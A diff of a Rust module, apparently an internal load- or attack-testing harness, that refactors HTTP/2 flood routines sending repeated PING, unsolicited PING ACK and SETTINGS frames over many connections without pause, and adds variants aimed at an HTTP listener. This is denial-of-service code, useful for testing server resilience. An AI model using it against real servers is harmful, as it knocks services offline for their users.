@@ -62,27 +62,42 @@ pub(super) fn continue_headers(to: SocketAddr) -> Attacking {
 
 /// Pings, each of which must be answered.
 pub(super) fn pings(target: Target) -> Attacking {
-    repeat(target, kind::PING, flag::NONE, &[7; 8])
+    send_pings(target.grpc)
+}
+
+/// The same to the listener for HTTP, which also speaks HTTP/2.
+pub(super) fn pings_to_http(target: Target) -> Attacking {
+    send_pings(target.http)
+}
+
+/// Sends pings without a pause.
+pub(super) fn send_pings(to: SocketAddr) -> Attacking {
+    repeat(to, kind::PING, flag::NONE, &[7; 8])
 }
 
 /// Answers to pings that were never sent.
 pub(super) fn pongs(target: Target) -> Attacking {
-    repeat(target, kind::PING, flag::ACK, &[7; 8])
+    repeat(target.grpc, kind::PING, flag::ACK, &[7; 8])
 }
 
 /// Settings, each of which must be applied and acknowledged.
 pub(super) fn settings(target: Target) -> Attacking {
-    repeat(
-        target,
-        kind::SETTINGS,
-        flag::NONE,
-        &[0, 4, 0, 0, 0xff, 0xff],
-    )
+    send_settings(target.grpc)
 }
 
-fn repeat(target: Target, kind: u8, flags: u8, payload: &'static [u8]) -> Attacking {
+/// The same to the listener for HTTP.
+pub(super) fn settings_to_http(target: Target) -> Attacking {
+    send_settings(target.http)
+}
+
+/// Sends settings without a pause.
+pub(super) fn send_settings(to: SocketAddr) -> Attacking {
+    repeat(to, kind::SETTINGS, flag::NONE, &[0, 4, 0, 0, 0xff, 0xff])
+}
+
+fn repeat(to: SocketAddr, kind: u8, flags: u8, payload: &'static [u8]) -> Attacking {
     crowd(CONNECTIONS, move |number| async move {
-        let mut stream = connect_h2(source(number), target.grpc, WINDOW).await?;
+        let mut stream = connect_h2(source(number), to, WINDOW).await?;
         let mut out = Vec::new();
         for _ in 0..FRAMES {
             frame(&mut out, kind, flags, 0, payload);
